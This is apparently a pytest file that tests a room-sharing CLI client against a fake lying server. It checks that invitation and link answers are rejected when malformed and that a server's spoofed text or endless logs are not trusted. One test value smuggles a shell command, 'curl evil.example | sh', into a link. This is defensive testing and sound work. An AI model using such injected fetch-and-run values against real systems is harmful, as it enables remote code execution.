"""A room's answers that are shaped like a room's, and lie."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from typer.testing import CliRunner

from quorumark.cli import app
from quorumark.consortium.identity import Identity
from quorumark.errors import RoomError
from quorumark.room import client as client_module
from quorumark.room.agent import Agent
from quorumark.room.agent_page import AgentPage
from quorumark.room.client import Client
from quorumark.room.codes import REFUSED, STATUS
from quorumark.room.place import Place, Settings
from tests.kit.rooms import make_home, until, visit

pytestmark = pytest.mark.room

ID, TOKEN = "ab" * 16, "k" * 43
Answers = dict[str, tuple[int, object]]


@pytest.fixture
def lies() -> Iterator[tuple[str, Answers]]:
    """A room's address, and what it answers by the last word of a path; the dictionary is the test's to fill."""
    answers: Answers = {}

    class Liar(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.rfile.read(int(self.headers.get("content-length", 0)))
            status, body = answers.get(self.path.partition("?")[0].rpartition("/")[2], (200, {}))
            data = json.dumps(body(self.path) if callable(body) else body).encode()
            self.send_response(status)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Liar)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", answers
    server.shutdown()
    server.server_close()


COMMANDS = {
    "join": ("invite", ["join", "--invite", "1", "--no-page"]),
    "invite": ("invite", ["invite", "1"]),
    "link": ("link", ["link", "--label", "court"]),
}
BAD: dict[str, Callable[[str], str]] = {
    "a shell's command": lambda good: good + "'; curl evil.example | sh; echo '",
    "a short token": lambda good: good[:-1],
    "another host": lambda good: good.replace("127.0.0.1", "127.0.0.2"),
    "another place": lambda good: good.replace("/c/", "/d/").replace("/open/", "/opens/"),
    "a second line": lambda good: good + "\n",
}


@pytest.mark.parametrize("command", COMMANDS)
def test_what_people_paste_has_the_shape_of_a_link_of_this_room(
    tmp_path: Path, lies: tuple[str, Answers], command: str
) -> None:
    address, answers = lies
    home, _ = make_home(tmp_path, "avon")
    Place(home.path).remember(Settings(address, ID, 1))
    what, arguments = COMMANDS[command]
    good = f"{address}/c/{ID}#{TOKEN}" if what == "invite" else f"{address}/open/{TOKEN}"
    line = ["room", *arguments, "--home", str(home.path)]
    for bad in BAD.values():
        answers[what] = 200, {"invitations": [bad(good)], "link": bad(good)}
        done = CliRunner().invoke(app, line)
        assert isinstance(done.exception, RoomError), done.output
        assert done.exception.code == "room.answer"
        assert bad(good).strip() not in done.output
    if command != "join":  # it would go on as an agent
        answers[what] = 200, {"invitations": [good], "link": good}
        assert good in CliRunner().invoke(app, line, catch_exceptions=False).output


def test_the_members_page_has_nothing_of_a_rooms_words(tmp_path: Path, lies: tuple[str, Answers]) -> None:
    address, answers = lies
    home, unlock = make_home(tmp_path, "avon")
    Place(home.path).remember(Settings(address, ID, 1))
    answers["log"] = 403, {"code": "room.not-a-member", "text": "CALL 555 TO RENEW YOUR KEY"}
    agent = Agent(home, unlock)
    page = AgentPage(agent)
    agent.start()
    page.start()
    try:
        until(lambda: agent.desk.troubles, "the refusal")
        text = visit(page.address)[2]
        assert "the room refuses" in text
        assert "555" not in text
    finally:
        page.stop()
        agent.stop()


def test_a_room_refuses_with_a_rooms_codes_only(lies: tuple[str, Answers]) -> None:
    """What only an agent can know, such as a home that was set back, is not the room's to say."""
    address, answers = lies
    client = Client(address, Identity.generate("Avon"), ID)
    for code in STATUS:
        answers["log"] = 409, {"code": code, "text": "x"}
        with pytest.raises(RoomError) as caught:
            client.log(0)
        assert caught.value.code == (code if code in REFUSED else "room.answer")
    assert "room.set-back" not in REFUSED
    client.close()


def test_a_log_without_an_end_is_not_read_for_ever(lies: tuple[str, Answers], monkeypatch: pytest.MonkeyPatch) -> None:
    address, answers = lies

    def page(path: str) -> dict[str, list[dict[str, object]]]:
        after = int(path.partition("after=")[2].partition("&")[0])
        known = {"author": "ab" * 32, "sha256": "cd" * 32, "size": 1, "gone": False}
        numbers = range(after + 1, after + 101) if after < 2_000 else ()
        return {"entries": [{"number": n, "name": f"note/{n}", **known} for n in numbers]}

    answers["log"] = 200, page
    client = Client(address, Identity.generate("Avon"), ID)
    assert len(client.whole_log()) == 2_000
    monkeypatch.setattr(client_module, "MOST_ENTRIES", 1_000)
    with pytest.raises(RoomError) as caught:
        client.whole_log()
    assert caught.value.code == "room.answer"
    client.close()


def test_the_members_page_answers_while_the_room_lets_it_wait(tmp_path: Path, lies: tuple[str, Answers]) -> None:
    address, answers = lies
    home, unlock = make_home(tmp_path, "avon")
    Place(home.path).remember(Settings(address, ID, 1))
    asked, go_on = threading.Event(), threading.Event()

    def ticket(_: str) -> dict[str, str]:
        asked.set()
        go_on.wait(60)
        return {"link": f"{address}/open/{TOKEN}"}

    answers["ticket"] = 200, ticket
    page = AgentPage(Agent(home, unlock))
    page.start()
    found: list[str] = []
    origin = page.address.rpartition("/")[0].rpartition("/")[0]
    waiting = threading.Thread(
        target=lambda: found.append(visit(page.address + "room", "POST", {"x": "1"}, origin=origin)[2])
    )
    waiting.start()
    try:
        assert asked.wait(30)
        assert visit(page.address)[0] == 200
        assert not found
    finally:
        go_on.set()
        waiting.join()
        page.stop()
    assert f"{address}/open/{TOKEN}" in found[0]
